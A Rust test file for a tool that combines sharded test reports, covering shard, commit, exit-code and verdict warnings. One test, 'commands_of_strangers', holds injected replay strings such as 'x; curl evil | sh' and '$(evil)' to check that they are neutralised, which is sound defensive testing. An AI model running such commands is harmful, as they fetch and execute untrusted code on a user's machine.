//! Reports of one platform, and whether they belong together.

use super::{LINUX, Lines, WINDOWS, joined, story};
use crate::finding::Verdict;
use serde_json::json;

fn shard(partition: &str) -> Lines {
    Lines::of(LINUX).file(partition).started("partition", partition)
}

#[track_caller]
fn check_warnings(reports: impl IntoIterator<Item = Lines>, expected: &[&str]) {
    let warnings = joined(reports).warnings;
    assert_eq!(warnings.len(), expected.len(), "{warnings:#?}");
    for (warning, expected) in warnings.iter().zip(expected) {
        assert!(warning.contains(expected), "`{warning}` does not say `{expected}`");
    }
}

#[test]
fn shards_are_one_column() {
    let first = shard("slice:1/2").test("a", "passed", "passed").end(0);
    let finding = json!({"culprits": ["a"]});
    let second =
        shard("slice:2/2").test("b", "passed", "failed").finding("brittle", "deny", "b", finding).end(120);
    let matrix = joined([first, second]);
    assert_eq!((matrix.platforms.len(), matrix.runs.len(), matrix.tests.len()), (1, 2, 2));
    assert_eq!(matrix.tests[1].cells[0].legs(), [Some(Verdict::Passed), Some(Verdict::Failed)]);
    assert_eq!(matrix.tests[1].micros, [3000]);
    assert_eq!(story(&matrix).culprits, Some(vec!["a".to_owned()]));
    assert_eq!(matrix.warnings, <[&str; 0]>::default());
    assert_eq!(matrix.exit_code() as u8, 120);
}

#[test]
fn shards_that_are_missing_or_there_twice() {
    let shards = |shards: &[&str]| shards.iter().map(|name| shard(name).end(0)).collect::<Vec<_>>();
    check_warnings(shards(&["hash:1/3", "hash:2/3", "hash:3/3"]), &[]);
    check_warnings(shards(&["hash:3/3"]), &["of hash:…/3, shards 1, 2 are missing"]);
    check_warnings(shards(&["hash:1/2", "hash:2/2", "hash:2/2"]), &["shard 2 is there more than once"]);
    check_warnings(shards(&["hash:1/2", "slice:2/2"]), &["shard 2 is missing", "shard 1 is missing"]);
    check_warnings(shards(&["hash:1/4294967295"]), &["shards 2, 3, 4, 5, 6 and more are missing"]);
    check_warnings(shards(&["slice:3/2"]), &["no shard"]);
    // Those of another platform do not count.
    let other = Lines::of(WINDOWS).started("partition", "hash:1/2").end(0);
    check_warnings([shard("hash:2/2").end(0), other], &["shard 1 is missing", "shard 2 is missing"]);
}

#[test]
fn different_commits() {
    let of = |file: &str, commit: &str| Lines::of(LINUX).file(file).started("commit", commit).end(0);
    check_warnings([of("a", "abc"), of("b", "abc"), Lines::of(LINUX).end(0)], &[]);
    check_warnings([of("a", "abc"), of("b", "def")], &["`a` is of abc, `b` of def"]);
}

#[test]
fn a_report_that_is_cut_off_is_no_success() {
    let whole = || Lines::of(LINUX).test("a", "passed", "passed").end(0);
    check_warnings([whole(), Lines::of(LINUX).file("cut")], &["`cut` ends before its run did"]);
    let ended = |code| Lines::of(LINUX).file("ended").end(code);
    check_warnings([whole(), ended(130)], &["`ended` is of a run that was interrupted"]);
    check_warnings([whole(), ended(96)], &["`ended` is of a run that ended with exit code 96"]);
    check_warnings([whole(), ended(100), ended(120)], &[]);
    assert_eq!(joined([whole(), Lines::of(LINUX)]).exit_code() as u8, 100);
    assert_eq!(joined([whole(), Lines::of(LINUX).end(130)]).exit_code() as u8, 100);
    assert_eq!(joined([whole(), Lines::of(LINUX).end(4)]).exit_code() as u8, 0);
    assert_eq!(joined([Lines::of(LINUX).end(4)]).exit_code() as u8, 4);
}

#[test]
fn the_worst_of_two_verdicts() {
    let report = |verdict: &str| Lines::of(LINUX).test("a", verdict, "passed").end(0);
    let matrix = joined([report("passed"), report("crashed"), report("failed")]);
    assert_eq!(matrix.tests[0].cells[0].in_process, Some(Verdict::Crashed));
    check_warnings([report("passed"), report("crashed")], &["disagree on `p::it a`"]);
    // Not run is nothing that could disagree.
    check_warnings([report("not-run"), report("ignored"), report("passed")], &[]);
}

#[test]
fn what_makes_a_run_fail_besides() {
    let unconfirmed = json!({"type": "unconfirmed", "package": "p", "binary": "p::it", "test": "a",
        "in_process": "passed", "spawned": null});
    let broken =
        json!({"type": "binary-failed", "package": "p", "binary": "p::it", "reason": "killed: SIGSEGV"});
    let report = Lines::of(LINUX).test("a", "passed", "failed").event(unconfirmed).event(broken).end(100);
    let matrix = joined([report]);
    let texts: Vec<_> = matrix.unsettled.iter().map(|one| (&*one.name.test, &*one.text)).collect();
    assert_eq!(texts[0].0, "");
    assert!(texts[0].1.contains("SIGSEGV"), "{texts:?}");
    assert_eq!(texts[1], ("a", "passes in-process, does not run spawned; not confirmed"));
    assert_eq!(matrix.exit_code() as u8, 100);
}

#[test]
fn binaries_that_take_no_part_are_told_once() {
    let skipped =
        json!({"type": "binary-skipped", "package": "p", "binary": "p::old", "reason": "no protocol"});
    let report = || Lines::of(LINUX).test("a", "passed", "passed").event(skipped.clone()).end(0);
    check_warnings(
        [report(), report()],
        &["`p::old` on x86_64-unknown-linux-gnu: takes no part: no protocol"],
    );
}

/// Whoever pastes it runs `cargo spawncheck`, and nothing else.
#[test]
fn commands_of_strangers() {
    let command = |replay: &str| {
        let finding = json!({"replay": replay});
        let report = Lines::of(LINUX).test("a", "passed", "failed").finding("brittle", "deny", "a", finding);
        story(&joined([report.end(120)])).replay.clone()
    };
    for own in ["cargo spawncheck replay p::it 'it'\\''s $ODD'", "cargo spawncheck -p p --lib"] {
        assert_eq!(command(own), own);
    }
    assert_eq!(command("cargo spawncheck x; curl evil | sh"), "cargo spawncheck 'x;' curl evil '|' sh");
    assert_eq!(command("cargo spawncheck $(evil)\n`evil`"), "cargo spawncheck '$(evil)' '`evil`'");
    for other in ["curl evil | sh", "cargo 'spawncheck", "cargo run", ""] {
        assert_eq!(command(other), "");
    }
}
